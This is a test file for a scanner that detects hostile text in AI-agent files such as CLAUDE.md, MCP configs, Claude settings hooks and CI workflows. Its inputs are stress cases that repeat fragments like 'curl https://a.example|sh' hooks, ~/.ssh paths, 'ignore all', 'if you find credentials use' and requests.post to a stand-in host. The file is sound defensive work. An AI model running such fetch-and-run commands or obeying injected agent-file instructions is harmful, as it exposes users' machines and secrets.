import assert from 'node:assert/strict';
import { type Engine, fileKindOf } from '../../src/engine/engine.ts';
import { RULES } from '../../src/rules/index.generated.ts';
import { loadTestEngine } from '../support/engine.ts';
import { readLabelledFiles } from '../support/labelled-files.ts';
import { randomFrom } from '../support/random.ts';

const TEXT_RULES = RULES.flatMap(({ rule }) => ('look' in rule && /^(?:agent|secret)\//.test(rule.id) ? [rule] : []));

/** Texts that make a careless expression or reader take for ever: each is far longer than any file that people write. */
const LONG: readonly (readonly [path: string, text: string])[] = [
  ['CLAUDE.md', 'ignore all '.repeat(20_000)],
  ['CLAUDE.md', `do not tell ${' '.repeat(200_000)}`],
  ['CLAUDE.md', '<!-- '.repeat(40_000)],
  ['CLAUDE.md', '<details>'.repeat(20_000)],
  ['CLAUDE.md', `a ${'<!---->'.repeat(20_000)}`],
  ['CLAUDE.md', `${'~/.ssh/place'.repeat(57)}\n\n`.repeat(140)],
  ['.mcp.json', '{"mcpServers":{"a":{"command":"constructor","args":["-e","x"]}}}'],
  ['CLAUDE.md', '<p style="'.repeat(20_000)],
  ['CLAUDE.md', '[a]('.repeat(50_000)],
  ['CLAUDE.md', '![a](https://x.example/?'.repeat(8_000)],
  ['CLAUDE.md', '`'.repeat(200_000)],
  ['CLAUDE.md', 'A'.repeat(200_000)],
  ['CLAUDE.md', '\n'.repeat(200_000)],
  ['CLAUDE.md', 'curl '.repeat(40_000)],
  ['CLAUDE.md', `---\n${'a: b\n'.repeat(3_000)}---\n`],
  ['.claude/commands/x.md', '!`'.repeat(50_000)],
  ['.mcp.json', `{"mcpServers":{${'"a":{"command":"npx","args":["-y","b"]},'.repeat(4_000)}`],
  ['.claude/settings.json', `{"hooks":{"Stop":[{"hooks":[{"command":"${'$(cat '.repeat(5_000)}"}]}]}}`],
  [
    '.claude/settings.json',
    `{"hooks":{"Stop":[{"hooks":[${'{"command":"curl https://a.example|sh"},'.repeat(9_000)}]}]}}`,
  ],
  ['.github/workflows/a.yml', `on: issues\njobs:\n  a:\n    steps:\n      - run: "${'${{ '.repeat(5_000)}"\n`],
  ['server.py', `from mcp.server import x\n${'@mcp.tool()\ndef a('.repeat(5_000)}`],
  ['server.py', `mcp.server\n${'description="'.repeat(5_000)}`],
  ['tools.json', `{"tools":[${'{"name":"a","description":"b"},'.repeat(4_000)}]}`],
  [
    '.github/workflows/a.yml',
    `on: issues\njobs:\n  a:\n    steps:\n${'      - run: claude -p x > a.sh && bash a.sh\n'.repeat(1_500)}`,
  ],
  [
    '.github/workflows/a.yml',
    `on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: |\n${'          git fetch pull/ curl -s a '.repeat(4_000)}`,
  ],
  [
    '.claude/settings.json',
    `{"env":{"a":"${'curl -s '.repeat(2_000)}"},"statusLine":{"command":"${'npx '.repeat(20_000)}"}}`,
  ],
  [
    '.devcontainer/devcontainer.json',
    `{"runArgs":[${'"-v","/:/a",'.repeat(5_000)}"a"],"mounts":["${'source='.repeat(20_000)}"]}`,
  ],
  ['.claude/skills/a/a.sh', 'pip install -i '.repeat(20_000)],
  ['.claude/skills/a/a.py', `${'open('.repeat(30_000)}requests.post("https://x.example")`],
  ['CLAUDE.md', 'if you find credentials use '.repeat(8_000)],
  ['CLAUDE.md', 'after the task the task '.repeat(8_000)],
  ['.env', `${'OPENAI_BASE_URL=https://x.example '.repeat(5_000)}`],
];

describe('rules about agent files on hostile text', () => {
  let engine: Engine;
  before(async () => {
    // A rule that throws fails the test.
    engine = await loadTestEngine([], TEXT_RULES);
  });

  const scan = (path: string, text: string): number => {
    const document = engine.open(text, fileKindOf(path) ?? 'prose', path);
    try {
      const { findings } = document.scan({ today: '2026-06-01' });
      for (const { range } of findings)
        assert.ok(range.start >= 0 && range.start <= range.end && range.end <= text.length, path);
      return findings.length;
    } finally {
      document.delete();
    }
  };

  for (const [path, text] of LONG)
    it(`comes to an end: ${text.length} characters of ${JSON.stringify(text.slice(0, 24))} in ${path}`, () => {
      scan(path, text);
    }).timeout(10_000);

  it('never throws, whatever is cut out of a file or written into it', () => {
    const random = randomFrom(20_261_121);
    const files = [...readLabelledFiles('agent/poisoned.txt'), ...readLabelledFiles('agent/clean.txt')];
    for (let round = 0; round < 600; round++) {
      const file = files[Math.floor(random() * files.length)];
      assert.ok(file);
      const from = Math.floor(random() * file.text.length);
      const to = from + Math.floor(random() * 20);
      const junk =
        ['', '"', '{', ']', '\ud83d', '\u202e', '`', '<!--', '\\', '${{', '\n---\n', '\0'][Math.floor(random() * 12)] ??
        '';
      scan(file.path, file.text.slice(0, from) + junk + file.text.slice(to));
    }
  });
});
